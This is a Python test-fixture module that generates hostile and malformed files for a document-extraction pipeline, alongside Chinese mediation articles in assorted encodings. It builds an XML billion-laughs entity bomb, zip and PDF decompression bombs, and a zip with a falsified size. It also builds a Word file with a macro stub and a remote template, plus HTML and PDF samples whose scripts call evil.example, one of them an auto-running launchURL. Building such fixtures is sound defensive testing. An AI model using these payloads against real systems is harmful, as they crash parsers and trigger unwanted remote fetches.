"""Foreign files of every bad habit, made here: what stations really bring, and what nobody should."""

import io
import struct
import zipfile
import zlib
from collections.abc import Sequence

import docx

TITLE = "赶集日里怎么劝架"
FIRST = "赶集那天人多路窄，三轮车蹭了菜摊子，两句话不对付就能吵起来，围着看的人一多，谁都下不来台。"
SECOND = "先把看热闹的劝开，再把两边的人领到背阴地方坐下，一人一碗水，让气慢慢顺下来，话才说得进去。"
THIRD = "谁的摊子摆过了线，谁的车没捏闸，都先不论，先把摔坏的菜过了秤，数目有了，心里就有底了。"
BODY = f"{FIRST}\n{SECOND}\n{THIRD}\n"


def scraped_gbk() -> bytes:
    """A page saved as text on an old machine: menus, counters, recommendations, hard line ends."""
    wrapped = "\n".join(
        line for paragraph in (FIRST, SECOND, THIRD)
        for line in ["　　" + paragraph[:20], *(paragraph[start : start + 22] for start in range(20, len(paragraph), 22))]
    )
    return (
        "• 网站首页\n• 设为首页\n• 加入收藏\n• 新闻动态\n• 乡村广角\n"
        "您现在的位置：乡村网 > 经验交流 > 正文\n\n"
        f"{TITLE}\n时间：2019-03-05 09:12　来源：柳河乡调委会　作者：老耿　点击：218 次\n\n{wrapped}\n"
        "（责任编辑：小宋）\n上一篇：怎么算误工费\n下一篇：分地的老规矩\n猜你喜欢\n十个让人笑岔气的赶集笑话\n乡里乡亲大全集\n"
        "版权所有 乡村网 京ICP备00000000号\n"
    ).encode("gb18030")


def big5() -> bytes:
    return (
        "巷口擺攤怎麼勸\n\n市場後面的巷子窄，攤車一停，住戶的機車就出不去，為了這件事每個禮拜都有人吵到里長那裡。"
        "\n里長先請兩邊各說各的，再一起去量巷子的寬度，畫一條線，說好幾點以前要收攤，大家都點頭才算數。\n"
    ).encode("big5")


def page_marks() -> bytes:
    """A shared document whose page numbers stand in the text; its real points must stay."""
    text = (
        "欢迎来到好多文库\nID:12345678\n大小:18.00 KB\n页数:3页\n时间:2017-06-01\n"
        "《村口小卖部门前的事》由会员上传分享，免费在线阅读，更多相关内容在教育资源-好多文库。\n"
        "1、村口小卖部门前的事村口小卖部门前常年坐着一圈人，谁家的鸡丢了、谁家的墙歪了，都在这儿说，说着说着就有人当了真，第二天堵着门要个说法，劝架的人一多半的活\n"
        "2、就在这门前头。这些年下来有几条心得。一、先听全。话传到第三个人嘴里就变了样，要把头一个说的人找来，当面问清楚。二、再看现场。墙歪没歪，量一量就知道，尺子不\n"
        "3、会偏心。三、后说话。看明白了再开口，先说两家都对的地方，再说各自差的那一步。\n"
        "此文档下载收益归作者所有\n"
    )
    return text.encode()


def real_list() -> bytes:
    return (
        "邻居停车怎么商量\n\n"
        "1、先看车位是谁的，有没有写在纸上，没写的就问物业当初怎么说的，别凭谁嗓门大。\n"
        "2、再看挡了谁的路，挡一会儿和挡一晚上不是一回事，救火车进不进得来要先说。\n"
        "3、最后商量谁挪、挪到哪儿，电话留在挡风玻璃上，半夜也打得通。\n"
    ).encode()


def translated() -> bytes:
    pairs = [
        (FIRST, "On market days the road is narrow and crowded, a tricycle brushes a stall and a quarrel begins at once."),
        (SECOND, "First send the onlookers away, then bring both sides to a shady place and give each a bowl of water."),
        (THIRD, "Never mind whose stall crossed the line; weigh the spoiled vegetables first, and put a number on it."),
    ]
    return (f"{TITLE}\nHow to Calm a Quarrel on Market Day\n\n" + "\n".join(f"{zh}\n{en}" for zh, en in pairs)
            + "\n英文翻译\n" + "\n".join(en for _, en in pairs) + "\n").encode()


def wrong_charset_page() -> bytes:
    """A page that declares UTF-8 and is GBK, with scripts, frames, styles and advertisements."""
    return f"""<html><head><meta charset="utf-8"><title>{TITLE}_乡村网</title>
<script src="http://evil.example/a.js"></script><style>p{{color:red}}</style></head><body onload="alert(1)">
<div class="nav"><a href="/">首页</a><a href="/b">新闻</a><a href="/c">论坛</a></div>
<div>当前位置：首页 > 经验 > 正文</div><h1>{TITLE}</h1>
<div class="info">发布时间：2021-03-04　来源：柳河乡司法所　浏览：1024</div>
<div class="content"><h2>一、先顺气</h2><p>{FIRST}</p><p>{SECOND}</p><h2>二、再算账</h2><p>{THIRD}</p></div>
<iframe src="http://evil.example/"></iframe><script>document.write("不该出现的广告词")</script>
<div><h3>猜你喜欢</h3><ul><li><a href="x">赶集笑话大全</a></li></ul></div><div>版权所有 乡村网</div></body></html>""".encode("gb18030")


def word(title: str = TITLE) -> bytes:
    document = docx.Document()
    document.add_heading(title, 0)
    document.add_paragraph("作者：老耿　　日期：2020年5月6日")
    document.add_heading("一、先顺气", 1)
    document.add_paragraph(FIRST)
    document.add_paragraph(SECOND)
    document.add_heading("二、再算账", 1)
    document.add_paragraph(THIRD)
    table = document.add_table(rows=2, cols=2)
    for cell, text in zip((cell for row in table.rows for cell in row.cells), ("摔坏的", "折多少钱", "西红柿", "两家各认一半"), strict=True):
        cell.text = text
    stored = io.BytesIO()
    document.save(stored)
    return stored.getvalue()


def _repacked(content: bytes, changed: dict[str, bytes]) -> bytes:
    stored = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(stored, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, changed.get(name) or old.read(name))
        for name in changed.keys() - set(old.namelist()):
            new.writestr(name, changed[name])
    return stored.getvalue()


def macro_word() -> bytes:
    """Macros, a template and a picture on another host, deleted text, a text written into a comment."""
    content = word()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        body = archive.read("word/document.xml").decode()
        links = archive.read("word/_rels/document.xml.rels").decode()
    deleted = '<w:p><w:del w:id="9" w:author="x"><w:r><w:delText>删掉的话不该出现</w:delText></w:r></w:del></w:p>'
    external = (
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        ' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return _repacked(content, {
        "word/document.xml": body.replace("<w:sectPr", deleted + "<w:sectPr", 1).encode(),
        "word/_rels/document.xml.rels": links.replace("</Relationships>", external).encode(),
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro",
    })


def entity_bomb() -> bytes:
    """Ten to the ninth letters by entities inside a Word file."""
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    body = (f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a0 "哈哈哈哈">{levels}]>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>")
    return _repacked(word(), {"word/document.xml": body.encode()})


def bomb_word() -> bytes:
    """A Word file of a few hundred kilobytes that unpacks to 300 MB."""
    return _repacked(word(), {"word/media/image1.bin": b"\0" * (300 << 20)})


def bomb_zip() -> bytes:
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(8):
            archive.writestr(f"文章{number}.txt", b" " * (30 << 20))
    return stored.getvalue()


def lying_zip() -> bytes:
    """Its directory says that 300 MB are 10 bytes."""
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", b" " * (300 << 20))
    content = bytearray(stored.getvalue())
    directory = content.rindex(b"PK\x01\x02")
    struct.pack_into("<I", content, directory + 24, 10)
    return bytes(content)


def zipped(files: dict[str, bytes]) -> bytes:
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return stored.getvalue()


def gbk_named_zip() -> bytes:
    """As Windows packs it: the name in GBK, without the flag for UTF-8."""
    name = "赶集 经验.txt".encode("gb18030")
    placeholder = b"N" * len(name)
    return zipped({placeholder.decode(): BODY.encode("gb18030")}).replace(placeholder, name)


# --- PDF, written by hand ----------------------------------------------------------------------

_TO_UNICODE = (
    b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def /CMapType 2 def 1 begincodespacerange "
    b"<0000> <FFFF> endcodespacerange 1 beginbfrange <0000> <FFFF> <0000> endbfrange endcmap end end"
)


def _pdf(pages: list[bytes], catalog: bytes = b"", more: Sequence[bytes] = ()) -> bytes:
    """A PDF of content streams; objects 1 to 5 are catalog, pages, font, descendant, its map to Unicode."""
    first = 6 + len(more)
    kids = b" ".join(b"%d 0 R" % (first + 2 * number) for number in range(len(pages)))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % len(pages),
        b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [4 0 R] /ToUnicode 5 0 R >>",
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /DW 1000 >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(_TO_UNICODE), _TO_UNICODE),
        *more,
    ]
    for number, stream in enumerate(pages):
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 3 0 R >> >> /Contents %d 0 R >>" % (first + 2 * number + 1))
        objects.append(stream if stream.startswith(b"<<") else b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream))
    out, offsets = bytearray(b"%PDF-1.5\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return bytes(out) + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)


def _page(lines: list[str]) -> bytes:
    shown = [f"1 0 0 1 60 {780 - 20 * number} Tm <{line.encode('utf-16-be').hex()}> Tj" for number, line in enumerate(lines)]
    return ("BT /F 12 Tf " + "\n".join(shown) + " ET").encode()


def pdf() -> bytes:
    """Three pages with running heads and page numbers that cut sentences, with scripts that start by themselves."""
    text = FIRST + SECOND + THIRD
    thirds = [text[:50], text[50:95], text[95:]]
    pages = [
        _page([f"柳河乡调解通讯 第{number}期", *([TITLE] if number == 1 else []), *(part[start : start + 25] for start in range(0, len(part), 25)), f"— {number} —"])
        for number, part in enumerate(thirds, 1)
    ]
    return _pdf(pages, b"/OpenAction 6 0 R /Names << /JavaScript << /Names [(a) 6 0 R] >> >>",
                [b"<< /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\)) >>"])


def scan() -> bytes:
    return _pdf([b"0 0 595 842 re f", b"0 0 595 842 re f"])


def bomb_pdf() -> bytes:
    """A page whose content unpacks to a gigabyte."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(1024)) + packer.flush()
    return _pdf([b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(packed), packed)])


def locked_pdf() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.encrypt("secret", algorithm="RC4-128")
    stored = io.BytesIO()
    writer.write(stored)
    return stored.getvalue()


def deep_page() -> bytes:
    return (b"<html><body>" + b"<div>" * 200_000 + FIRST.encode() + b"</div>" * 200_000 + b"</body></html>")
